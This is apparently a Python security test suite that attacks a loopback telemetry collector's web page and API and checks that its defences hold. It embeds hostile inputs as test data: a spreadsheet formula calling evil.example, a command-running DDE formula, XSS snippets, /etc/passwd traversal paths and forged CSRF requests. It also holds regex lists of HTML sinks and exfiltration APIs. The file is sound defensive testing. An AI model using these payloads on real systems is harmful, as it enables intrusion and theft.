"""Issue 14's sales-ops page and its API changes, attacked (review R14): each
test is an attack the collector withstands today and fails if the defence
is taken away. The attacks it found are fixed, their tests in
test_page_attack_fixes.py.

Who attacks:
- a web page the operator's browser visits while a no-token collector
  listens on loopback: DNS rebinding (every Host form a browser or a
  rebinding name can produce), CSRF (Origin null, Content-Type tricks a
  form or a no-cors fetch can send), a CORS preflight, other methods;
- an anonymous sender whose install id, version and edition end up in the
  page: the API hands them back as JSON data, the page renders them with
  textContent only (web/app.js scanned for every HTML sink) and its CSV
  download quotes a cell that starts like a formula;
- a client with a read token: crafted hot-list cursors, limits, /v1/rules,
  the page's assets (path tricks, ETag and Accept-Encoding tricks), and
  whether a token ever reaches a log or an error message.

Raw sockets where http.client would tidy the request (duplicate or padded
Host, absolute-form targets); one collector per class, ephemeral ports."""

import gzip
import json
import os
import re
import secrets
import socket
import subprocess
import time

from harness import (IO_TIMEOUT, LOCALHOST, REPO, Collector, CollectorCase, api_call, run_import,
                     set_options)

WEB = os.path.join(REPO, "web")
DAY = 86400 * 1000
CSP = ("default-src 'self'; script-src 'self'; style-src 'self'; connect-src 'self'; "
       "img-src 'self' data:; frame-ancestors 'none'; base-uri 'none'; form-action 'self'")

# What an anonymous sender controls and the page shows.
HOSTILE_INSTALL = "=cmd|' /C calc'!A0<img src=x onerror=alert(1)>"
HOSTILE_VERSION = '1.0;=HYPERLINK("http://evil.example/?"&A1)'
HOSTILE_EDITION = "<img src=x onerror=alert(1)>"
HOSTILE_DOMAIN = "evil.example"


def hostile_ping(now):
    """One ping that fires mau_over_25, every free-text field hostile."""
    return dict(install_id=HOSTILE_INSTALL, seq=1, sent_at=now - 3600 * 1000,
                version=HOSTILE_VERSION, edition=HOSTILE_EDITION, database_type="postgres",
                operating_system="linux", installation_type="docker", registered_users=40,
                active_users_daily=10, active_users_monthly=30, teams=1, public_channels=3,
                private_channels=1, posts=500, org_domain=HOSTILE_DOMAIN)


def import_hostile(c):
    path = os.path.join(c.root, "hostile.ndjson")
    with open(path, "w") as f:
        f.write(json.dumps(hostile_ping(int(time.time() * 1000))) + "\n")
    r = run_import(path, c.data_dir, org_salt_file=c.salt_path)
    if r.returncode != 0 or "1 accepted" not in r.stderr:
        raise AssertionError("import failed: exit %d\n%s" % (r.returncode, r.stderr))


class Raw:
    """An HTTP/1.1 answer read off a raw socket: status, headers (lower-case
    names; a repeated one's values joined by ', '), body (bytes)."""

    def __init__(self, data):
        head, _, self.body = data.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        self.status = int(lines[0].split(" ")[1])
        self.headers = {}
        for line in lines[1:]:
            k, _, v = line.partition(":")
            k = k.strip().lower()
            self.headers[k] = (self.headers[k] + ", " if k in self.headers else "") + v.strip()

    def json(self):
        return json.loads(self.body.decode("utf-8"))


def raw_request(port, text, timeout=IO_TIMEOUT):
    """Sends text (the request's bytes exactly, latin-1) with Connection:
    close semantics and reads the answer to the end."""
    with socket.create_connection((LOCALHOST, port), timeout=timeout) as s:
        s.sendall(text.encode("latin-1"))
        chunks = []
        while True:
            d = s.recv(65536)
            if not d:
                break
            chunks.append(d)
    return Raw(b"".join(chunks))


def req(method, target, headers, body=b""):
    """A request's text: headers a list of (name, value) sent as given (so
    a duplicate or a padded value goes out as such)."""
    lines = ["%s %s HTTP/1.1" % (method, target)]
    lines += ["%s: %s" % (k, v) for k, v in headers]
    if body or method in ("PUT", "POST"):
        lines.append("Content-Length: %d" % len(body))
    lines.append("Connection: close")
    return "\r\n".join(lines) + "\r\n\r\n" + body.decode("latin-1")


def app_js():
    with open(os.path.join(WEB, "app.js"), encoding="utf-8") as f:
        return f.read()


def js_function(src, name):
    """The text of `function name(...) { ... }` in app.js (two-space indent)."""
    m = re.search(r"\n  (?:async )?function %s\([^)]*\) \{\n.*?\n  \}\n" % re.escape(name),
                  src, re.S)
    if m is None:
        raise AssertionError("app.js has no function %s" % name)
    return m.group(0)


def run_js_function(name, inputs):
    """app.js's function name applied by node to each input: the outputs."""
    prog = js_function(app_js(), name) + (
        "\nconst inputs = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
        "process.stdout.write(JSON.stringify(inputs.map((v) => %s(v))));\n" % name)
    r = subprocess.run(["node", "-e", prog], input=json.dumps(inputs), capture_output=True,
                       text=True, timeout=30)
    if r.returncode != 0:
        raise AssertionError("node failed: %s" % r.stderr)
    return json.loads(r.stdout)


class NoTokenAttacks(CollectorCase):
    """A no-token collector on loopback holding one hostile organization,
    attacked the ways a foreign page in the operator's browser can."""

    @classmethod
    def setUpClass(cls):
        c = Collector(name="page-attack")
        cls.addClassCleanup(c.close)
        import_hostile(c)
        c.start()
        cls.addClassCleanup(c.stop)  # before close: exit 0 (under the sanitizers, clean)
        cls.c = c
        cls.port = c.api_port
        cls.own = "127.0.0.1:%d" % c.api_port

    def send(self, method, target, headers, body=b""):
        return raw_request(self.port, req(method, target, headers, body))

    def own_put_named(self, csv):
        r = self.send("PUT", "/v1/named-accounts",
                      [("Host", self.own), ("Content-Type", "text/csv")], csv)
        self.assertEqual(r.status, 200, r.body)

    def named(self):
        r = self.send("GET", "/v1/named-accounts", [("Host", self.own)])
        self.assertEqual(r.status, 200, r.body)
        return sorted(n["domain"] for n in r.json()["named_accounts"])

    def test_rebound_hosts_read_nothing(self):
        """Every Host a rebinding name or a browser quirk produces, on every
        data route: never an answer with data."""
        p = self.port
        hosts = [[("Host", h)] for h in (
            "evil.example:%d" % p, "localhost.:%d" % p, "127.0.0.1.:%d" % p,
            "localhost:%d." % p, " localhost:%d " % p, "127.0.0.1:%d\t" % p,
            "127.0.0.1:%d.evil.example" % p, "localhost:%d@evil.example" % p,
            "evil.example:%d#localhost:%d" % (p, p), "[0:0:0:0:0:0:0:1]:%d" % p,
            "[::ffff:127.0.0.1]:%d" % p, "127.1:%d" % p, "2130706433:%d" % p,
            "0x7f.0.0.1:%d" % p, "0177.0.0.1:%d" % p, "localhost:0%d" % p,
            "localhost:+%d" % p, "localhost", "127.0.0.1", "", "localhost:%d, evil" % p)]
        hosts.append([("Host", "evil.example:%d" % p), ("Host", self.own)])  # first one counts
        hosts.append([])                                                     # no Host at all
        targets = ["/v1/accounts/hot", "/v1/rules", "/v1/signals", "/v1/named-accounts",
                   "/metrics", "/v1/accounts/domain:" + HOSTILE_DOMAIN]
        for headers in hosts:
            for target in targets:
                with self.subTest(headers=headers, target=target):
                    r = self.send("GET", target, headers)
                    self.assertIn(r.status, (400, 403), r.body[:300])
                    self.assertNotIn(b"mau_over_25", r.body)
                    self.assertNotIn(b"onerror", r.body)
        # an absolute-form target naming the listener does not launder a rebound Host
        for target in ("http://%s/v1/accounts/hot" % self.own,
                       "http://evil.example:%d/v1/accounts/hot" % p):
            with self.subTest(target=target):
                r = self.send("GET", target, [("Host", "evil.example:%d" % p)])
                self.assertNotEqual(r.status, 200, r.body[:300])
                self.assertNotIn(b"mau_over_25", r.body)
        # the listener's own names still read (so the refusals above are the guard's)
        r = self.send("GET", "/v1/accounts/hot", [("Host", "LocalHost:%d" % p)])
        self.assertEqual(r.status, 200, r.body[:300])
        self.assertIn(b"mau_over_25", r.body)

    def test_forged_state_changes_change_nothing(self):
        """CSRF: what a foreign form, a no-cors fetch or a rebound page can
        send, on each state-changing route; the named table and the hostile
        organization are untouched afterwards."""
        self.own_put_named(b"domain,name,owner\nkeep.example,Keep Corp,kim\n")
        p, own = self.port, self.own
        csv_types = ["text/plain", "text/plain;x=text/csv", "text/plain; charset=text/csv",
                     "text/plain, text/csv", "multipart/form-data; boundary=text/csv",
                     "application/x-www-form-urlencoded;text/csv", "text/csvx", "text/cs v",
                     "text/csv-x", "xtext/csv", "text\\/csv", ""]
        forged = []
        for ct in csv_types:
            hdrs = [("Host", own)] + ([("Content-Type", ct)] if ct else [])
            forged.append(("PUT", "/v1/named-accounts", hdrs,
                           b"domain,name,owner\nevil.example,Pwned,eve\n"))
            forged.append(("PUT", "/v1/networks", hdrs, b"0.0.0.0/0,evil.example\n"))
        for ct in ["text/plain;x=application/json", "text/plain; charset=application/json",
                   "application/x-www-form-urlencoded", "multipart/form-data; boundary=a",
                   "application/jsonx", "application/json-patch+json", ""]:
            forged.append(("POST", "/v1/forget",
                           [("Host", own)] + ([("Content-Type", ct)] if ct else []),
                           b'{"domain":"' + HOSTILE_DOMAIN.encode() + b'"}'))
        origins = ["null", "http://evil.example", "http://localhost.:%d" % p,
                   "http://127.0.0.1:%d." % p, "http://%s.evil.example" % own,
                   "http://%s@evil.example" % own, "https://%s" % own, "file://",
                   "http://%s/" % own, "http://localhost:%d, http://evil.example" % p,
                   "http://127.0.0.1"]
        for origin in origins:
            forged.append(("PUT", "/v1/named-accounts",
                           [("Host", own), ("Content-Type", "text/csv"), ("Origin", origin)],
                           b"domain,name,owner\nevil.example,Pwned,eve\n"))
            forged.append(("DELETE", "/v1/named-accounts/keep.example",
                           [("Host", own), ("Origin", origin)], b""))
            forged.append(("POST", "/v1/forget", [("Host", own), ("Origin", origin),
                                                  ("Content-Type", "application/json")],
                           b'{"domain":"' + HOSTILE_DOMAIN.encode() + b'"}'))
        for host in ("evil.example:%d" % p, "localhost.:%d" % p):
            forged.append(("DELETE", "/v1/named-accounts/keep.example", [("Host", host)], b""))
            forged.append(("POST", "/v1/forget", [("Host", host),
                                                  ("Content-Type", "application/json")],
                           b'{"domain":"' + HOSTILE_DOMAIN.encode() + b'"}'))
        for method, target, headers, body in forged:
            with self.subTest(method=method, target=target, headers=headers):
                r = self.send(method, target, headers, body)
                self.assertIn(r.status, (403, 415), r.body[:300])
        self.assertEqual(self.named(), ["keep.example"], "no forged request was applied")
        r = self.send("GET", "/v1/networks", [("Host", own)])
        self.assertEqual(r.json()["networks"], [])
        r = self.send("GET", "/v1/accounts/domain:" + HOSTILE_DOMAIN, [("Host", own)])
        self.assertEqual(r.status, 200, "the organization was not forgotten: %r" % r.body[:200])

    def test_no_cors_grant_to_any_origin(self):
        """A preflight is not answered with a grant, and no answer carries
        Access-Control-Allow-*: a foreign page cannot send JSON or CSV, nor
        read any answer."""
        p, own = self.port, self.own
        pre = self.send("OPTIONS", "/v1/named-accounts", [
            ("Host", own), ("Origin", "http://evil.example"),
            ("Access-Control-Request-Method", "PUT"),
            ("Access-Control-Request-Headers", "content-type"),
            ("Access-Control-Request-Private-Network", "true")])
        self.assertNotEqual(pre.status // 100, 2, pre.headers)
        answers = [pre]
        for origin in ("http://evil.example", "null", "http://localhost:%d" % p):
            for target in ("/", "/assets/app.js", "/v1/accounts/hot", "/v1/rules", "/healthz"):
                answers.append(self.send("GET", target, [("Host", own), ("Origin", origin)]))
        for r in answers:
            for name in r.headers:
                self.assertFalse(name.startswith("access-control-"), (name, r.headers))

    def test_other_methods(self):
        """HEAD, OPTIONS, TRACE and unknown methods on the page and the API:
        405 with Allow, nothing of the request echoed (no TRACE reflection),
        and nothing changed."""
        canary = "canary-" + secrets.token_hex(8)
        for method in ("HEAD", "OPTIONS", "TRACE", "PROPFIND", "PATCH", "CONNECT", "GETX"):
            for target in ("/", "/assets/app.js", "/v1/forget", "/v1/named-accounts"):
                with self.subTest(method=method, target=target):
                    r = self.send(method, target, [("Host", self.own), ("X-Canary", canary),
                                                   ("Cookie", canary)])
                    self.assertIn(r.status, (400, 405, 501), r.body[:200])
                    self.assertNotIn(canary.encode(), r.body)
                    self.assertNotIn(canary, json.dumps(r.headers))

    def test_asset_path_tricks(self):
        """Path tricks under /assets/: a 404 that quotes the name as JSON,
        or an embedded file under its own type and the page's headers;
        nothing from disk, no other route reached."""
        files = {}
        for name in ("index.html", "app.js", "app.css", "favicon.svg"):
            with open(os.path.join(WEB, name), "rb") as f:
                files[name] = f.read()
        tricks = ["/assets/../v1/rules", "/assets/%2e%2e/v1/rules", "/assets/..%2fv1%2frules",
                  "/assets/app.js/", "/assets//etc/passwd", "/assets/..%2f..%2fREADME.md",
                  "/assets/%2fetc%2fpasswd", "/assets/app.js%00.html", "/assets/APP.JS",
                  "/assets/app.js.map", "/assets/./app.js", "/assets/app.js;.html",
                  "/assets/%61pp.js", "/assets/" + "a" * 3000, "/assets/%ff%fe",
                  "/assets/<script>alert(1)</script>", "/assets/app.js?x=<b>",
                  "//assets/app.js", "/v1/../assets/app.js"]
        for target in tricks:
            with self.subTest(target=target):
                r = self.send("GET", target, [("Host", self.own)])
                self.assertNotIn(b"root:x:0", r.body)
                self.assertNotIn(b"mau_over_25", r.body)
                if r.status == 200:
                    ctype = r.headers["content-type"]
                    self.assertIn(r.body, files.values(), target)
                    name = [n for n, b in files.items() if b == r.body][0]
                    self.assertFalse(name != "index.html" and ctype.startswith("text/html"),
                                     (target, ctype))
                    self.assertEqual(r.headers.get("content-security-policy"), CSP)
                    self.assertEqual(r.headers.get("x-content-type-options"), "nosniff")
                else:
                    self.assertIn(r.status, (400, 404, 414, 431), r.body[:200])
                    self.assertEqual(r.headers.get("content-type"), "application/json")

    def test_etag_and_encoding_tricks(self):
        """ETag and Accept-Encoding tricks: the bytes are always the file
        (gzip only when asked), a 304 only for a tag of the form served, and
        every answer, 304s included, carries the page's headers."""
        with open(os.path.join(WEB, "app.js"), "rb") as f:
            js = f.read()
        plain = self.send("GET", "/assets/app.js", [("Host", self.own)])
        zipped = self.send("GET", "/assets/app.js", [("Host", self.own),
                                                     ("Accept-Encoding", "gzip")])
        etag, etag_gz = plain.headers["etag"], zipped.headers["etag"]
        self.assertNotEqual(etag, etag_gz)
        cases = [  # (headers, status, gzip)
            ([("Accept-Encoding", "gzip;q=0")], 200, False),
            ([("Accept-Encoding", "gzip;q=0.000")], 200, False),
            ([("Accept-Encoding", "gzip;q=nan")], 200, False),
            ([("Accept-Encoding", "gzip;q=0, *")], 200, False),
            ([("Accept-Encoding", "identity, x-gzip, gzipx, deflate, br")], 200, False),
            ([("Accept-Encoding", "GZIP ; Q=1")], 200, True),
            ([("Accept-Encoding", "*")], 200, True),
            ([("Accept-Encoding", ",,, ;;; , gzip")], 200, True),
            ([("Accept-Encoding", "x" * 6000 + ", gzip")], 200, True),
            ([("If-None-Match", etag_gz)], 200, False),             # the other form's tag
            ([("Accept-Encoding", "gzip"), ("If-None-Match", etag)], 200, True),
            ([("If-None-Match", etag[:-2] + '"')], 200, False),
            ([("If-None-Match", etag.upper())], 200, False),
            ([("If-None-Match", "W/" + etag)], 304, False),
            ([("If-None-Match", '"x", ' + etag)], 304, False),
            ([("If-None-Match", "*")], 304, False),
            ([("Accept-Encoding", "gzip"), ("If-None-Match", etag_gz)], 304, True),
            ([("If-None-Match", ", " * 2000 + etag)], 304, False),
        ]
        for headers, status, gz in cases:
            with self.subTest(headers=[(k, v[:80]) for k, v in headers]):
                r = self.send("GET", "/assets/app.js", [("Host", self.own)] + headers)
                self.assertEqual(r.status, status, r.headers)
                self.assertEqual(r.headers.get("content-security-policy"), CSP, r.headers)
                self.assertEqual(r.headers.get("x-content-type-options"), "nosniff")
                self.assertEqual(r.headers.get("x-frame-options"), "DENY")
                self.assertEqual(r.headers.get("etag"), etag_gz if gz else etag)
                if status == 304:
                    self.assertEqual(r.body, b"")
                    continue
                self.assertEqual(r.headers.get("content-encoding"), "gzip" if gz else None)
                self.assertEqual(gzip.decompress(r.body) if gz else r.body, js)

    def test_hostile_fields_are_data(self):
        """The anonymous sender's install id, version and edition come back
        as JSON strings, verbatim, under application/json and nosniff-free
        only as JSON (never HTML); the page shows them with textContent."""
        r = self.send("GET", "/v1/accounts/hot", [("Host", self.own)])
        self.assertEqual(r.headers["content-type"], "application/json")
        row = r.json()["accounts"][0]
        self.assertEqual((row["versions"], row["editions"]), ([HOSTILE_VERSION],
                                                              [HOSTILE_EDITION]))
        r = self.send("GET", "/v1/accounts/" + row["org"], [("Host", self.own)])
        self.assertEqual(r.headers["content-type"], "application/json")
        self.assertEqual(r.json()["installs"][0]["install_id"], HOSTILE_INSTALL)


class PageScript(CollectorCase):
    """web/app.js read as an attacker reads it: where data meets the DOM,
    the CSV and the network. These fail when a sink or a leak is added."""

    def test_no_html_sinks(self):
        src = app_js()
        for sink in (r"\.innerHTML\b", r"\.outerHTML\b", r"insertAdjacentHTML",
                     r"document\.write", r"\beval\s*\(", r"\bnew\s+Function\b",
                     r"setTimeout\(\s*['\"`]", r"setInterval\(\s*['\"`]", r"createRange",
                     r"createContextualFragment", r"DOMParser", r"srcdoc", r"javascript:",
                     r"\.src\s*=", r"\bhtml\s*:", r"innerText\s*\+?=\s*.*<"):
            with self.subTest(sink=sink):
                self.assertIsNone(re.search(sink, src), sink)

    def test_links_are_hash_routes(self):
        """Every href the page builds is a fragment of its own (data only
        after encodeURIComponent) or a blob: of the CSV download; no
        attribute is set from data except through el()'s text-only path."""
        src = app_js()
        hrefs = re.findall(r"href:\s*([^,}]+)", src)
        self.assertTrue(hrefs)
        for h in hrefs:
            with self.subTest(href=h):
                h = h.strip()
                self.assertTrue(h == "url" or re.match(
                    r"^'#/[a-z]*/?'(\s*\+\s*encodeURIComponent\([\w.]*\))?$", h), h)
        self.assertIn("URL.createObjectURL(new Blob(", src)
        # el(): data children become text nodes; props never take data as HTML
        el = js_function(src, "el")
        self.assertIn("document.createTextNode(String(c))", el)

    def test_token_stays_home(self):
        """The token goes out only as Authorization on the page's own
        same-origin, credential-free fetches of /v1/ paths; never in a URL,
        a log line or another storage."""
        src = app_js()
        self.assertEqual(len(re.findall(r"\bfetch\(", src)), 1, "one fetch, in api()")
        api = js_function(src, "api")
        self.assertIn("credentials: 'omit'", api)
        self.assertRegex(api, r"fetch\(path,")
        for call in re.findall(r"\bapi\(([^,)]+)", src):
            with self.subTest(call=call):
                self.assertTrue(call.startswith("'/v1/") or call == "hotQuery(null" or
                                call == "hotQuery(hot.next" or call == "path", call)
        self.assertIn("return '/v1/accounts/hot?'", js_function(src, "hotQuery"))
        self.assertNotRegex(src, r"console\.|localStorage|document\.cookie|postMessage|"
                                 r"window\.open|navigator\.sendBeacon|XMLHttpRequest|"
                                 r"WebSocket|EventSource|https?://(?!www\.w3\.org/2000/svg)")
        uses = re.findall(r"sessionStorage\.(\w+)\(TOKEN_KEY", src)
        self.assertEqual(sorted(set(uses)), ["getItem", "removeItem", "setItem"])
        self.assertNotRegex(src, r"TOKEN_KEY\)\s*\+|token\s*\+\s*['\"]?[?&#]|[?&]token=")

    def test_csv_cells_never_start_a_formula(self):
        """Every cell of the page's CSV download passes csvCell; a cell that
        starts like a formula (= + - @ TAB CR), or has such a character after
        ; , or TAB, gets a quote before it (as the CLI's --csv), and the cell
        stays one quoted field whatever quotes or line breaks it holds."""
        src = app_js()
        self.assertRegex(js_function(src, "hotCsv"), r"\]\.map\(csvCell\)\.join\(','\)")
        hostile = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", HOSTILE_VERSION,
                   HOSTILE_INSTALL, '"=1"', '",=1,"', "a\r\n=1", "=" * 3]
        got = run_js_function("csvCell", hostile)
        for v, cell in zip(hostile, got):
            with self.subTest(value=v):
                self.assertTrue(cell.startswith('"') and cell.endswith('"'), cell)
                inner = cell[1:-1]
                self.assertNotIn('"', inner.replace('""', ""), "quotes doubled")
                self.assertEqual(re.sub(r"([;,\t])'", r"\1", inner.replace('""', '"'))
                                 .lstrip("'"), v.lstrip("'"))
                self.assertNotIn(inner[0], "=+-@\t\r", cell)
                self.assertIsNone(re.search(r"[;,\t][=+\-@\t\r]", inner), cell)


class TokenAttacks(CollectorCase):
    """Tokens set; a read-token client and an anonymous one attack the
    hot-list cursor, /v1/rules and the token's handling."""

    @classmethod
    def setUpClass(cls):
        c = Collector(name="page-attack-tokens")
        cls.addClassCleanup(c.close)
        import_hostile(c)
        cls.tokens = {}
        paths = {}
        for name in ("read", "admin"):
            cls.tokens[name] = name + "-" + secrets.token_hex(16)
            paths[name] = os.path.join(c.root, name + ".token")
            with open(paths[name], "w") as f:
                f.write(cls.tokens[name] + "\n")
        set_options(c, {"read_token_file": paths["read"], "admin_token_file": paths["admin"]})
        c.start()
        cls.addClassCleanup(c.stop)
        cls.c = c

    def get(self, path, token="read", headers=None):
        return api_call(self.c.api_port, "GET", path,
                        token=self.tokens[token] if token else None, headers=headers)

    def test_crafted_cursors_and_limits(self):
        import base64

        def b64(raw):
            return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
        first = self.get("/v1/accounts/hot?limit=1")
        self.assertEqual(first.status, 200, first.body)
        org = bytes.fromhex(first.json()["accounts"][0]["org"])
        top = b"\xff" * 8 + b"k" + org
        bad = ["", "!!!!", "A" * 20000, b64(b"\x02" + b"\0" * 4 + top),
               b64(b"\x01" + b"\0" * 4 + b"\xff" * 8),
               b64(b"\x01" + b"\0" * 4 + b"\xff" * 8 + b"k" + b"\0" * 3),
               b64(b"\x01" + b"\0" * 4 + b"\xff" * 8 + b"\x09" + org),
               b64(b"\x01" + b"\0" * 4 + b"\xff" * 8 + b"i"),
               b64(b"\x01" + b"\0" * 4 + b"\xff" * 8 + b"k" + org + b"\0"),
               b64(b"\x01" + b"\0" * 4 + top) + "A",
               b64(b"\x01" + b"\0" * 4 + top)[:-1] + "+/"]
        for cur in bad:
            with self.subTest(after=cur[:20] + "..." + cur[-20:]):
                r = self.get("/v1/accounts/hot?after=" + cur)
                if cur == "":
                    self.assertIn(r.status, (200, 400), r.body)
                    continue
                self.assertEqual(r.status, 400, r.body[:200])
                self.assertLess(len(r.body), 600, "the refusal does not echo a huge cursor")
        # a forged cursor at the top and the largest rank: an answer, ranks stay numbers
        r = self.get("/v1/accounts/hot?after=" + b64(b"\x01\xff\xff\xff\xff" + top))
        self.assertEqual(r.status, 200, r.body)
        for a in r.json()["accounts"]:
            self.assertGreater(a["rank"], 0)
        for q in ("limit=0", "limit=1001", "limit=18446744073709551617", "limit=-1",
                  "limit=1e3", "limit=1&limit=1000", "after=x&after=y", "min_score=nan",
                  "min_score=-inf", "since=99999999999999999999"):
            with self.subTest(query=q):
                self.assertEqual(self.get("/v1/accounts/hot?" + q).status, 400, q)
        self.assertEqual(self.get("/v1/accounts/hot?after=x", token=None).status, 401)

    def test_account_history_bounded(self):
        """The page's ?days= (up to 3650 from a shareable URL) is the API's
        bound; past it, or forged, a 400."""
        org = self.get("/v1/accounts/hot?limit=1").json()["accounts"][0]["org"]
        r = self.get("/v1/accounts/%s?days=3650" % org)
        self.assertEqual(r.status, 200, r.body[:200])
        self.assertLessEqual(len(r.json()["daily"]), 3650)
        for q in ("days=3651", "days=0", "days=-1", "days=1e9", "days=99999999999999999999",
                  "days=90&days=91"):
            with self.subTest(query=q):
                self.assertEqual(self.get("/v1/accounts/%s?%s" % (org, q)).status, 400, q)

    def test_rules_say_nothing_secret(self):
        r = self.get("/v1/rules")
        self.assertEqual(r.status, 200, r.body)
        self.assertEqual(self.get("/v1/rules", token=None).status, 401)
        for rule in r.json()["rules"]:
            self.assertEqual(sorted(rule), ["cooldown_ms", "description", "hysteresis", "name",
                                            "weight", "when"])
        body = r.body.decode()
        for secret in list(self.tokens.values()) + [self.c.org_salt.hex(), self.c.root]:
            self.assertNotIn(secret, body)

    def test_token_in_no_answer_and_no_log(self):
        canary = "canary-" + secrets.token_hex(16)
        for tok in (canary, self.tokens["read"] + "x", self.tokens["read"][:-1]):
            r = api_call(self.c.api_port, "GET", "/v1/accounts/hot", token=tok)
            self.assertEqual(r.status, 401)
            self.assertNotIn(tok.encode(), r.body)
        r = api_call(self.c.api_port, "PUT", "/v1/named-accounts", body=b"x",
                     token=self.tokens["read"], headers={"Content-Type": "text/csv"})
        self.assertEqual(r.status, 401, "the read token is not the admin one")
        self.assertEqual(self.get("/v1/accounts/hot").status, 200)
        log = self.c.log_tail(100000)
        for secret in (canary, self.tokens["read"], self.tokens["admin"]):
            self.assertNotIn(secret, log)


if __name__ == "__main__":
    import unittest
    unittest.main()
